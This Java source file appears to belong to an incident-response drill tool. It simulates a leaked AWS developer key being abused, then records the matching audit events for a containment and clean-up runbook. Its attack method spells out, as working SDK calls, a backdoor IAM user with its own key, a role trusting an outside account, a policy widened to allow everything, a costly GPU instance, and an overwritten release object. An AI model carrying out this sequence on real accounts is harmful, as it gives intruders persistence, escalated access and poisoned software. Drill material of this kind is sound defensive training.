package com.leakedkeybot.sandbox;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.ec2.Ec2Client;
import software.amazon.awssdk.services.iam.IamClient;
import software.amazon.awssdk.services.iam.model.AccessKey;
import software.amazon.awssdk.services.iam.model.StatusType;
import software.amazon.awssdk.services.s3.S3Client;

/**
 * A developer's key with write access leaks; from another address the attacker plants a backdoor user with a key,
 * a role trusting an outside account and an instance, widens the owner's inline policy and overwrites objects. The
 * runbook's contain-first path, clean-up, revert and restore all have something to do.
 */
final class ExfiltrationScenario implements Scenario {

    static final String OWNER = "dana";
    private static final String PLATFORM = "platform-admin";
    static final String BACKDOOR = "svc-backup";
    static final String ROLE = "ops-recovery";
    static final String POLICY = "deploy-artifacts";
    static final String BUCKET = "acme-artifacts";
    static final String RELEASE = "releases/app-1.4.2.tar.gz";
    private static final String OWNER_IP = "198.51.100.20";
    private static final String ATTACKER_IP = "203.0.113.66";
    private static final String IAM = "iam.amazonaws.com";
    private static final String DEPLOY_POLICY = "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\","
            + "\"Action\":[\"s3:GetObject\",\"s3:PutObject\"],\"Resource\":\"arn:aws:s3:::" + BUCKET + "/*\"}]}";
    private static final String EVERYTHING = "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\","
            + "\"Action\":\"*\",\"Resource\":\"*\"}]}";
    private static final String OUTSIDE_TRUST = "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\","
            + "\"Principal\":{\"AWS\":\"arn:aws:iam::999999999999:root\"},\"Action\":\"sts:AssumeRole\"}]}";

    @Override
    public String name() {
        return "exfiltration";
    }

    @Override
    public String summary() {
        return "a developer's key with write access is used to plant a backdoor user, a role and an instance, widen a "
                + "policy and overwrite objects: contain first, clean up, revert";
    }

    @Override
    public Played play(DrillAccount account) {
        AccessKey leaked = account.owner(OWNER, People.NICO.id(), "developers", List.of(
                "arn:aws:iam::aws:policy/IAMFullAccess", "arn:aws:iam::aws:policy/AmazonEC2FullAccess",
                "arn:aws:iam::aws:policy/AmazonS3FullAccess"));
        Instant now = Instant.now();
        DrillAccount.Actor owner = account.actor(OWNER, leaked.accessKeyId(), leaked.secretAccessKey(), OWNER_IP,
                "aws-cli/2.15.0 Python/3.11 Linux/6.5 exe/x86_64.ubuntu.22");
        platformSetUp(account, now.minus(Duration.ofDays(20)));
        ownersUsualWork(owner, now.minus(Duration.ofDays(6)));

        DrillAccount.Actor attacker = account.actor(OWNER, leaked.accessKeyId(), leaked.secretAccessKey(),
                ATTACKER_IP, "Boto3/1.34.0 Python/3.12 Linux/5.15 Botocore/1.34.0");
        attack(attacker, now.minus(Duration.ofMinutes(45)));
        return new Played(leaked.accessKeyId(), Optional.of(() -> anotherBackdoor(account, attacker, leaked)));
    }

    /**
     * The platform team, with a key of its own, set up the owner's policy, bucket and release: what a revert and a
     * restore go back to.
     */
    private static void platformSetUp(DrillAccount account, Instant at) {
        account.admin().createUser(r -> r.userName(PLATFORM));
        AccessKey key = account.admin().createAccessKey(r -> r.userName(PLATFORM)).accessKey();
        DrillAccount.Actor platform = account.actor(PLATFORM, key.accessKeyId(), key.secretAccessKey(), "198.51.100.5",
                "aws-cli/2.15.0 Python/3.11 Darwin/23.1 exe/arm64");
        platform.aws().iam().putUserPolicy(r -> r.userName(OWNER).policyName(POLICY).policyDocument(DEPLOY_POLICY));
        platform.recorded(at, DrillAccount.REGION, IAM, "PutUserPolicy", false, e -> e.request("userName", OWNER)
                .request("policyName", POLICY).request("policyDocument", DEPLOY_POLICY));
        S3Client s3 = platform.aws().s3In(DrillAccount.REGION);
        s3.createBucket(r -> r.bucket(BUCKET));
        s3.putBucketVersioning(r -> r.bucket(BUCKET).versioningConfiguration(v -> v.status("Enabled")));
        platform.recorded(at.plusSeconds(60), DrillAccount.REGION, "s3.amazonaws.com", "CreateBucket", false,
                e -> e.request("bucketName", BUCKET));
        String release = s3.putObject(r -> r.bucket(BUCKET).key(RELEASE), RequestBody.fromString("release 1.4.2"))
                .versionId();
        platform.wroteObject(at.plusSeconds(120), BUCKET, RELEASE, release);
    }

    /**
     * The owner's routine from its usual address, and a build runner it launched: a change of the owner's, which the
     * clean-up offers only until the exposure time is confirmed (or the source marked the owner's).
     */
    private static void ownersUsualWork(DrillAccount.Actor owner, Instant from) {
        owner.aws().sts().getCallerIdentity();
        Ec2Client ec2 = owner.aws().ec2In(DrillAccount.REGION);
        ec2.describeInstances();
        String runner = ec2.runInstances(r -> r.imageId("ami-12c6146b").minCount(1).maxCount(1)
                .instanceType("t3.micro")).instances().get(0).instanceId();
        owner.recorded(from.plusSeconds(3660), DrillAccount.REGION, "ec2.amazonaws.com", "RunInstances", false,
                e -> e.request("instanceType", "t3.micro")
                        .response("{\"instancesSet\":{\"items\":[{\"instanceId\":\"" + runner + "\"}]}}"));
        // The same morning routine on the days before: history, recorded as the trail would hold it.
        for (int day = 0; day < 5; day++) {
            Instant at = from.plus(Duration.ofDays(day)).plusSeconds(3600);
            owner.recorded(at, DrillAccount.REGION, "sts.amazonaws.com", "GetCallerIdentity", true, e -> e);
            owner.recorded(at.plusSeconds(20), DrillAccount.REGION, "ec2.amazonaws.com", "DescribeInstances", true,
                    e -> e);
        }
    }

    private static void attack(DrillAccount.Actor attacker, Instant from) {
        IamClient iam = attacker.aws().iam();
        iam.getUser(r -> r.userName(OWNER));
        attacker.recorded(from, DrillAccount.REGION, IAM, "GetUser", true, e -> e.request("userName", OWNER));
        iam.listUsers();
        attacker.recorded(from.plusSeconds(5), DrillAccount.REGION, IAM, "ListUsers", true, e -> e);
        backdoor(attacker, BACKDOOR, from.plusSeconds(30));
        String roleArn = iam.createRole(r -> r.roleName(ROLE).assumeRolePolicyDocument(OUTSIDE_TRUST)).role().arn();
        attacker.recorded(from.plusSeconds(90), DrillAccount.REGION, IAM, "CreateRole", false,
                e -> e.request("roleName", ROLE).request("assumeRolePolicyDocument", OUTSIDE_TRUST)
                        .response("{\"role\":{\"roleName\":\"" + ROLE + "\",\"arn\":\"" + roleArn + "\"}}"));
        iam.putUserPolicy(r -> r.userName(OWNER).policyName(POLICY).policyDocument(EVERYTHING));
        attacker.recorded(from.plusSeconds(120), DrillAccount.REGION, IAM, "PutUserPolicy", false,
                e -> e.request("userName", OWNER).request("policyName", POLICY).request("policyDocument", EVERYTHING));
        Ec2Client ec2 = attacker.aws().ec2In("eu-west-1");
        String instance = ec2.runInstances(r -> r.imageId("ami-12c6146b").minCount(1).maxCount(1)
                .instanceType("p3.16xlarge")).instances().get(0).instanceId();
        attacker.recorded(from.plusSeconds(180), "eu-west-1", "ec2.amazonaws.com", "RunInstances", false,
                e -> e.request("instanceType", "p3.16xlarge")
                        .response("{\"instancesSet\":{\"items\":[{\"instanceId\":\"" + instance + "\"}]}}"));
        S3Client s3 = attacker.aws().s3In(DrillAccount.REGION);
        s3.listObjectsV2(r -> r.bucket(BUCKET));
        String trojaned = s3.putObject(r -> r.bucket(BUCKET).key(RELEASE), RequestBody.fromString("trojaned"))
                .versionId();
        attacker.wroteObject(from.plusSeconds(240), BUCKET, RELEASE, trojaned);
    }

    /** A user with an access key of its own: persistence that survives the leaked key's deactivation. */
    private static void backdoor(DrillAccount.Actor attacker, String userName, Instant at) {
        IamClient iam = attacker.aws().iam();
        iam.createUser(r -> r.userName(userName));
        attacker.recorded(at, DrillAccount.REGION, IAM, "CreateUser", false, e -> e.request("userName", userName)
                .response("{\"user\":{\"userName\":\"" + userName + "\"}}"));
        String key = iam.createAccessKey(r -> r.userName(userName)).accessKey().accessKeyId();
        attacker.recorded(at.plusSeconds(10), DrillAccount.REGION, IAM, "CreateAccessKey", false,
                e -> e.request("userName", userName).response("{\"accessKey\":{\"accessKeyId\":\"" + key
                        + "\",\"userName\":\"" + userName + "\",\"status\":\"Active\"}}"));
    }

    /** While the drill runs: one more backdoor, or, once the key is inactive, the attempt AWS refuses. */
    private static void anotherBackdoor(DrillAccount account, DrillAccount.Actor attacker, AccessKey leaked) {
        boolean active = account.admin().listAccessKeys(r -> r.userName(OWNER)).accessKeyMetadata().stream()
                .anyMatch(key -> key.accessKeyId().equals(leaked.accessKeyId()) && key.status() == StatusType.ACTIVE);
        if (active) {
            // Its key follows the user 10 s later: both are in the past, as a trail read now would find them.
            backdoor(attacker, BACKDOOR + "-2", Instant.now().minusSeconds(10));
        } else {
            attacker.recorded(Instant.now(), DrillAccount.REGION, IAM, "CreateUser", false,
                    e -> e.request("userName", BACKDOOR + "-2").error("InvalidClientTokenId"));
        }
    }
}
